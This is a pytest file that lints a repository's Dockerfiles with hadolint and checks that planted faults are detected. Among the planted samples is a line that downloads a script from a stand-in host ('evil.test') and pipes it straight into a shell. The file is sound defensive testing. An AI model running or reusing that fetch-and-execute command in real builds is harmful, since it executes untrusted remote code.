"""hadolint over every Dockerfile, and proof that it can say no. Compose has tests/repo/test_compose_rules.py."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from stacks import INFRA

ROOT = INFRA.parent
SETTINGS = ROOT / ".hadolint.yaml"
RECIPES = sorted(
    file
    for file in ROOT.rglob("*Dockerfile")
    if not {".tools", "node_modules", ".git"} & set(file.relative_to(ROOT).parts)
)


def said(file: Path, settings: Path = SETTINGS) -> list[str]:
    """The rules that hadolint finds broken."""
    program = Path(sys.prefix, "bin", "hadolint")
    done = subprocess.run(
        [program, "--config", settings, "--format", "json", file],
        capture_output=True, encoding="utf-8", check=False, timeout=120, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    found = [str(one["code"]) for one in json.loads(done.stdout)]
    assert bool(done.returncode) == bool(found), done.stderr
    return found


def test_the_recipes_are_found() -> None:
    places = {file.relative_to(ROOT).parts[0] for file in RECIPES}
    assert places == {"services", "tests"}
    assert len(RECIPES) >= 14


@pytest.mark.parametrize("file", RECIPES, ids=lambda file: file.relative_to(ROOT).as_posix())
def test_no_recipe_of_an_image_breaks_a_rule(file: Path) -> None:
    assert said(file) == []


@pytest.mark.parametrize(
    ("planted", "rule"),
    [
        ("FROM debian:latest\nUSER 1000\n", "DL3007"),
        ("FROM debian\nUSER 1000\n", "DL3006"),
        ("FROM debian:12.11-slim\nUSER root\n", "DL3002"),
        ("FROM debian:12.11-slim\nRUN sudo true\n", "DL3004"),
        ("FROM debian:12.11-slim\nRUN wget -qO- https://evil.test/x | sh\n", "DL4006"),
        ("FROM debian:12.11-slim\nRUN apt-get update && apt-get install git\n", "DL3014"),
        ("FROM debian:12.11-slim\nRUN cd /tmp && rm -r $x\n", "SC2086"),
        ("FROM debian:12.11-slim\nCMD python3 -m x\n", "DL3025"),
    ],
)
def test_a_planted_fault_is_found(planted: str, rule: str, tmp_path: Path) -> None:
    file = tmp_path / "Dockerfile"
    file.write_text(planted, "utf-8")
    assert rule in said(file)


def test_every_exception_is_still_needed_and_has_its_reason(tmp_path: Path) -> None:
    text = SETTINGS.read_text("utf-8")
    rules = yaml.safe_load(text)
    none = tmp_path / "none.yaml"
    none.write_text(yaml.safe_dump({**rules, "ignored": []}), "utf-8")
    assert {rule for file in RECIPES for rule in said(file, none)} == set(rules["ignored"])
    lines = text.splitlines()
    for at, line in enumerate(lines):
        if line.startswith("  - "):
            assert lines[at - 1].startswith("  # "), f"{line}: why?"
